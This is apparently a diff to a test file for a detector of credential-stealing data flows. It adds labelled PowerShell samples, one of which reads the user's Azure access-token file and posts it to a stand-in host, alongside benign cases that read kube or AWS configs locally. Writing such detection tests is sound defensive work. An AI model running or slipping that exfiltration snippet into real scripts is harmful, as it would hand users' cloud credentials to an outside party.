@@ -42,6 +42,19 @@ const cases: FlowCase[] = [
     e1: [6, 0.9],
   },
   {
+    name: 'powershell: Join-Path builds a cloud credentials path, a function returns it, another posts it',
+    path: 'scripts/Sync-Profile.ps1',
+    text: "function Read-Cloud {\n    $file = Join-Path $env:USERPROFILE '.azure\\accessTokens.json'\n    return Get-Content -Path $file -Raw\n}\nfunction Push-It($payload) {\n    Invoke-RestMethod -Uri 'https://intake.example-profiles.net/p' -Method Post -Body $payload -TimeoutSec 15\n}\nPush-It (Read-Cloud)\n",
+    pe3: 0.9,
+  },
+  {
+    name: 'no boost: powershell reads a kube config to print the current context, sends nothing',
+    path: 'scripts/Show-Context.ps1',
+    text: "$cfg = Join-Path $HOME '.kube\\config'\n$text = Get-Content -Path $cfg -Raw\n($text -split \"`n\" | Select-String 'current-context').Line\n",
+    pe3: 0.85,
+    below: true,
+  },
+  {
     name: 'no boost: credentials listed locally, nothing sent',
     path: 'scripts/profiles.py',
     text: 'import configparser, os\ncfg = configparser.ConfigParser()\ncfg.read_string(open(os.path.expanduser("~/.aws/credentials")).read())\nfor name in cfg.sections():\n    print(name)\n',
